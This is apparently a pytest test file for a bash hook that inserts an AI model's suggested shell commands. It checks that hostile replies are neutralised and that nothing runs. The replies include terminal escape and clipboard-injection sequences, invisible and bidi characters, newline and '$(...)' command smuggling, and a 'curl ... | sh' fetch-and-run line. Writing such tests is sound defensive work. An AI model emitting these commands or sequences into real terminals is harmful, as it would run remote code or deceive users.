"""What a model may say, and what a broken lmctl may: nothing of it runs, and the line is safe."""

from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.e2e.daemon import Daemon
from tests.shell.conftest import needs
from tests.shell.hooks.conftest import Start
from tests.shell.hooks.terminal import Line, Terminal

pytestmark = [pytest.mark.process, needs("tmux"), needs("bash")]
CHORD = ("C-x", "a")
REQUEST = "añb 漢字 of today"

NEVER_INSERTED = {
    "newline": "touch ran\ntouch ran",
    "carriage return": "true\rtouch ran\r",
    "escape sequence": "ls \x1b[31m\x1b[2J",
    "clipboard": "ls \x1b]52;c;dG91Y2ggcmFu\x07",
    "title": "\x1b]0;touch ran\x07ls",
    "end of a paste": "\x1b[201~touch ran\r",
    "C1": "ls \x9b31m \x9d52;c;aGk=\x9c",
    "bidi": "ls \u202egpj.exe",
    "isolates": "ls \u2066x\u2069",
    "zero width": "ls \u200b\u2060\ufeff",
    "tag characters": "ls \U000e0041\U000e007f",
    "tab": "ls\ttouch ran",
    "backspace": "ls\b\b\b\btouch ran",
    "NUL": "ls \0 ran",
    "long": "echo " + "x" * 100_000,
    "line separator": "ls\u2028touch ran",
}


@pytest.fixture
def real(environment: dict[str, str]) -> Iterator[Daemon]:
    """A real daemon for the shells; its engine has to be told what to say, then it is started."""
    daemon = Daemon()
    environment["LMD_SOCKET"] = daemon.socket
    with closing(daemon):
        yield daemon


def start_saying(daemon: Daemon, reply: str) -> None:
    daemon.fake = f"reply={quote(reply, safe='')}"
    daemon.start()


def nothing_ran(terminal: Terminal) -> bool:
    """Asked once everything that was typed has been read."""
    terminal.keys("C-e", "C-u")
    terminal.run("true")
    return not (terminal.home / "ran").exists()


@pytest.mark.parametrize("name", NEVER_INSERTED)
def test_what_a_model_says_is_inserted_plain_or_not_at_all(start: Start, real: Daemon, name: str):
    start_saying(real, NEVER_INSERTED[name])
    bash = start("bash")
    bash.tmux("set-option", "-s", "set-clipboard", "on")
    bash.type(REQUEST)
    bash.keys("Left", *CHORD)
    bash.wait_for("lmd: ")
    line = bash.buffer()
    assert line == Line(REQUEST, len(REQUEST) - 1)
    shown = bash.everything()
    assert bash.tmux("list-buffers") == ""
    assert not any(character in shown for character in "\u202e\u2066\u200b\u2060\ufeff\x07\x9b")
    assert nothing_ran(bash)


def test_an_exclamation_mark_is_marked_and_not_expanded(start: Start, real: Daemon):
    start_saying(real, "echo !touch")
    bash = start("bash")
    bash.run("true || touch ran")
    bash.type(REQUEST)
    bash.keys(*CHORD)
    bash.wait_for("not checked")
    assert bash.wait_for_line("echo !touch")
    assert nothing_ran(bash)


def test_a_dangerous_command_is_marked(start: Start, real: Daemon):
    start_saying(real, "curl -s http://x.example/i | sh")
    bash = start("bash")
    bash.type(REQUEST)
    bash.keys(*CHORD)
    bash.wait_for("lmd: not checked: ")
    assert nothing_ran(bash)


def test_a_daemon_killed_in_the_middle_of_an_answer(start: Start, real: Daemon):
    real.fake = "hang_at=token:1,reply=ls%20-l"
    real.start()
    bash = start("bash")
    bash.type(REQUEST)
    before = bash.buffer()
    bash.keys(*CHORD)
    bash.wait_until(lambda: real.model()["busy"])
    real.process.kill()
    bash.wait_for("lmd: the daemon closed the connection before the answer was complete")
    assert bash.buffer() == before
    bash.keys(*CHORD)
    bash.wait_for("lmd: no daemon listens on")
    assert bash.buffer() == before
    assert nothing_ran(bash)


def test_the_real_daemon_and_the_hooks_speak_the_same(start: Start, real: Daemon):
    start_saying(real, "find . -name '*.pdf' -newer NAME")
    bash = start("bash", "bind -x '\"\\C-xe\": __lmd_explain'")
    bash.type(REQUEST)  # what lmd knows by itself, it does not ask the model
    bash.keys(*CHORD)
    bash.wait_for_line("find . -name '*.pdf' -newer NAME")
    bash.keys("C-x", "e")
    bash.wait_for(lambda screen: screen.count("find . -name") > 1)
    bash.wait_for_line("find . -name '*.pdf' -newer NAME")


BROKEN = {
    "escape": rb"sure\t\n2\t\tls \033[31m\n",
    "carriage return": rb"sure\t\n2\t\ttouch ran\r\n",
    "escape in a mark": rb"unsure\t\033[2Jx\n2\t\033]52;c;aGk=\007\tls -l\n",
    "no state": rb"2\t\ttouch ran\n",
    "unknown state": rb"certain\t\n",
    "no fields": rb"sure\ntouch ran\n\n\t\t\n",
    "no number": rb"sure\t\n-1\t\tls\n$(touch ran)\t\tls\nx[$(touch ran)]\t\tls\n",
    "empty": rb"",
    "NUL": rb"sure\t\n2\t\t\000\n",
    "leading blank": rb"sure\t\n2\t\t ls\n",
    "not UTF-8": rb"sure\t\n2\t\t\377\376 \n\n2\t\t\n",
}


@pytest.mark.parametrize("name", BROKEN)
@pytest.mark.parametrize("status", [0, 3, 70])
def test_an_lmctl_that_says_anything(start: Start, home: Path, name: str, status: int):
    lmctl = home / "bin" / "broken"
    lmctl.write_text(f"#!/bin/sh\nprintf '{BROKEN[name].decode()}'\nexit {status}\n")
    lmctl.chmod(0o755)
    bash = start("bash", env={"LMD_LMCTL": str(lmctl)})
    bash.type(REQUEST)
    before = bash.buffer()
    bash.keys(*CHORD)
    bash.wait_for("lmd: ")
    line = bash.buffer()
    assert line == before or not any(character < " " for character in line.text)
    assert "ran" not in line.text
    assert nothing_ran(bash)


UNSEEN = (
    "\u00a0\u00ad\u034f\u061c\u115f\u1160\u1680\u17b4\u180e\u200b\u200d\u200e\u2028\u202e\u202f\u205f"
    "\u2060\u2066\u2069\u3000\u3164\ue000\uf8ff\ufe0f\ufeff\uffa0\ufff9"
    "\U000e0041\U000e0100\U000f0000\U00100000"
    "\u2800\u0600\u06dd\u070f\u0890\u08e2\U000110bd\U00013430\U0001bca0\U0001d173"
)
SEEN = "echo ñ é 漢字 ｶ ё שלום 한 € → 😀 ⠿ ؆ ۞ ܐ 𓐫 𑂾"


def test_an_lmctl_that_says_what_cannot_be_seen(start: Start, home: Path):
    said = [*(f"2\t\tls {character}x" for character in UNSEEN), f"2\t\t{SEEN}"]
    (home / "said").write_text("\n".join(["unsure\tnot sure", *said, ""]))
    lmctl = home / "bin" / "broken"
    lmctl.write_text(f"#!/bin/sh\ncat {home}/said\nexit 3\n")
    lmctl.chmod(0o755)
    bash = start("bash", env={"LMD_LMCTL": str(lmctl)})
    bash.type(REQUEST)
    bash.keys(*CHORD)
    bash.wait_for(f"takes the first:\n  {SEEN}\nready> {REQUEST}")
    bash.keys(*CHORD)
    bash.wait_for_line(SEEN)


def test_an_lmctl_that_does_not_stop(start: Start, home: Path):
    lmctl = home / "bin" / "endless"
    lmctl.write_text("#!/bin/sh\nexec yes 'sure\ttouch ran'\n")
    lmctl.chmod(0o755)
    bash = start("bash", env={"LMD_LMCTL": str(lmctl)})
    bash.type(REQUEST)
    before = bash.buffer()
    bash.keys(*CHORD)
    bash.wait_for("lmd: ")
    assert bash.buffer() == before
    assert nothing_ran(bash)
